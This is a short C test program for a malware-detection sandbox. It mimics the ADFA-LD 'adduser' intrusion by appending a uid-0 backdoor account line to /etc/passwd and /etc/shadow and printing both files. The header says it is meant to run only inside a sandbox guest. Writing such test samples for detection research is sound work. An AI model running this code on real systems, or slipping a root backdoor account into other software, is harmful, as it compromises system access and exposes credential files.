/*
 * test-adduser: a harmless test program for the ScaleMalNet sandbox.
 * Imitates the ADFA-LD "adduser" attack, where an intruder adds a backdoor
 * account: it appends a user line to /etc/passwd and /etc/shadow (opened for
 * append/write) and reads both files back. Run it only inside the sandbox
 * guest (or on a throwaway copy): it really edits those files.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int append(const char *path, const char *line)
{
	int fd = open(path, O_WRONLY | O_APPEND);
	if (fd < 0) {
		perror(path);
		return -1;
	}
	ssize_t n = write(fd, line, strlen(line));
	close(fd);
	if (n != (ssize_t)strlen(line)) {
		perror(path);
		return -1;
	}
	return 0;
}

static void dump(const char *path)
{
	char buf[4096];
	int fd = open(path, O_RDONLY);
	if (fd < 0) {
		perror(path);
		return;
	}
	printf("--- %s\n", path);
	fflush(stdout);
	ssize_t n;
	while ((n = read(fd, buf, sizeof buf)) > 0)
		if (write(STDOUT_FILENO, buf, n) != n)
			break;
	close(fd);
}

int main(void)
{
	int rc = 0;
	/* uid 0: the classic backdoor root account. */
	rc |= append("/etc/passwd", "smnbackdoor:x:0:0:smn test:/root:/bin/sh\n");
	rc |= append("/etc/shadow", "smnbackdoor:$6$smnsalt$notarealhash:19000:0:99999:7:::\n");
	dump("/etc/passwd");
	dump("/etc/shadow");
	printf("test-adduser: %s\n", rc ? "failed" : "user added");
	return rc ? 1 : 0;
}
